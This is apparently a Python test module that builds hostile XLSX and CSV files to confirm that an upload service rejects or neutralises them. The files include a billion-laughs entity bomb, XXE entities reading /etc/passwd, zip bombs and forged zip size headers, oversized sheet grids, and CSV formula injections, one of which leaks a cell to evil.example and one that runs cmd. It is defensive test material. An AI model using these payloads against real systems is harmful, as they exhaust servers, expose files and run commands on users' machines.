"""Hostile files, built at test time: each is small, and each would hurt a server that
read it naively (exhaust its memory, read its files, crash the process, run a formula
on a clerk's machine). Every one is refused before python-calamine reads it, or, for
the CSV formula, stored as plain text.

Each builder starts from a clean workbook of the Organizations sheet, so that the file
is a real XLSX apart from its one hostile part.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.files import csv_bytes, xlsx

SHEET_PART = "xl/worksheets/sheet1.xml"
ORGANIZATIONS = [["名称", "类型", "行业"], ["国美零售", "民营企业", "零售"]]


def clean_workbook() -> bytes:
    return xlsx({"组织": ORGANIZATIONS})


def rewritten(changes: dict[str, Callable[[str], str]], *, base: bytes | None = None) -> bytes:
    """The clean workbook with some of its parts rewritten (`part: old text -> new`)."""
    source = zipfile.ZipFile(io.BytesIO(base or clean_workbook()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename in changes:
                data = changes[info.filename](data.decode("utf-8")).encode("utf-8")
            archive.writestr(info.filename, data)
    return out.getvalue()


def with_cell(reference: str, text: str = "x") -> Callable[[str], str]:
    """A sheet part with one more inline-string cell, at `reference` (row and column)."""
    row = re.sub(r"[A-Z]", "", reference)

    def change(sheet: str) -> str:
        cell = f'<row r="{row}"><c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c></row>'
        return sheet.replace("</sheetData>", cell + "</sheetData>")

    return change


def with_doctype(doctype: str, *, cell_text: str) -> Callable[[str], str]:
    """A sheet part that declares a document type and uses its entity in a third row."""

    def change(sheet: str) -> str:
        body = with_cell("A3", cell_text)(sheet)
        return f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n' + re.sub(
            r"^<\?xml[^>]*\?>\s*", "", body
        )

    return change


# ---------------------------------------------------------------------------------------
# XML that attacks the parser
# ---------------------------------------------------------------------------------------


def billion_laughs() -> bytes:
    """Entity expansion: ten levels of ten, a billion `lol`s (3 GB) from under 1 KB."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{level} "{("&lol" + str(level - 1) + ";") * 10}">' for level in range(1, 10)
    ]
    doctype = f"<!DOCTYPE worksheet [{''.join(entities)}]>"
    return rewritten({SHEET_PART: with_doctype(doctype, cell_text="&lol9;")})


def external_entity(path: str = "/etc/passwd") -> bytes:
    """An external entity: a file of the server read into a cell, then into the records."""
    doctype = f'<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file://{path}">]>'
    return rewritten({SHEET_PART: with_doctype(doctype, cell_text="&secret;")})


def external_entity_in_shared_strings(path: str = "/etc/passwd") -> bytes:
    """The same, hidden in a part other than the sheet: the workbook's relations."""
    doctype = f'<!DOCTYPE Relationships [<!ENTITY secret SYSTEM "file://{path}">]>'

    def change(part: str) -> str:
        return doctype + re.sub(r"^<\?xml[^>]*\?>\s*", "", part)

    return rewritten({"xl/_rels/workbook.xml.rels": change})


# ---------------------------------------------------------------------------------------
# Sheets that reach too far
# ---------------------------------------------------------------------------------------


def huge_dimension() -> bytes:
    """A sheet that declares itself the size of the whole grid, 16,384 × 1,048,576."""

    def change(sheet: str) -> str:
        return re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', sheet)

    return rewritten({SHEET_PART: change})


def far_cell() -> bytes:
    """Two cells, A1 and XFD1048576: python-calamine asks for 512 GB and aborts."""
    return rewritten({SHEET_PART: with_cell("XFD1048576")})


def far_cell_behind_line_breaks() -> bytes:
    """The same cell, its attributes after a line break and a tab, as XML allows."""

    def change(sheet: str) -> str:
        cell = '<row\nr="1048576"><c\tr="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return sheet.replace("</sheetData>", cell + "</sheetData>")

    return rewritten({SHEET_PART: change})


def far_column() -> bytes:
    """One cell in column 16,384 of the second row."""
    return rewritten({SHEET_PART: with_cell("XFD3")})


def wide_and_long() -> bytes:
    """Within the row and column limits, but its grid of 200 × 100,001 cells would take
    over 600 MB while read."""
    return rewritten({SHEET_PART: with_cell("GR100001")})


# ---------------------------------------------------------------------------------------
# Zips that unpack too far
# ---------------------------------------------------------------------------------------


def minimal_zip(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A sheet part of 5 MB of spaces, packed a thousand times smaller."""
    return minimal_zip({SHEET_PART: " " * (5 * 1024 * 1024)})


def unpacks_too_far(total: int) -> bytes:
    """Parts of 900 KB each (each under the one-part ratio check) whose sum is over
    `total` bytes unpacked."""
    count = total // (900 * 1024) + 1
    return minimal_zip({f"xl/media/filler{n}.xml": " " * (900 * 1024) for n in range(count)})


def lying_sizes() -> bytes:
    """A sheet part whose headers declare it shorter than it unpacks (with the checksum
    of that shorter start), so that a size check trusting the headers would pass a
    bomb: the part's last row, a cell in Z50, lies past the declared end."""
    data = rewritten({SHEET_PART: with_cell("Z50")})
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(SHEET_PART)
    full = zipfile.ZipFile(io.BytesIO(data)).read(SHEET_PART)
    declared = full[: full.index(b'<row r="50"')]
    crc, size = zlib.crc32(declared), len(declared)
    patched = bytearray(data)
    # The local header: CRC-32 at 14, uncompressed size at 22.
    struct.pack_into("<I", patched, info.header_offset + 14, crc)
    struct.pack_into("<I", patched, info.header_offset + 22, size)
    # Its central directory entry: CRC-32 at 16, uncompressed size at 24, name at 46.
    central = patched.index(b"PK\x01\x02")
    while patched[central + 46 : central + 46 + len(SHEET_PART)] != SHEET_PART.encode():
        central = patched.index(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", patched, central + 16, crc)
    struct.pack_into("<I", patched, central + 24, size)
    return bytes(patched)


def too_many_parts(count: int = 10_001) -> bytes:
    return minimal_zip({f"xl/media/part{n}.bin": b"" for n in range(count)})


# ---------------------------------------------------------------------------------------
# Files that only pretend
# ---------------------------------------------------------------------------------------


def damaged_zip() -> bytes:
    """What a zip starts with, then noise: a file renamed to .xlsx, or cut short."""
    return b"PK\x03\x04" + bytes(range(256)) * 4


def truncated_workbook() -> bytes:
    """A real workbook cut in half on its way."""
    data = clean_workbook()
    return data[: len(data) // 2]


def formula_csv() -> bytes:
    """An Organizations CSV whose cells a spreadsheet program would run as formulas."""
    return csv_bytes(
        [
            ["名称", "类型", "行业"],
            ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "民营企业", "+1+1"],
            ["@SUM(1+1)*cmd|' /C calc'!A0", "民营企业", "-2+3"],
        ]
    )
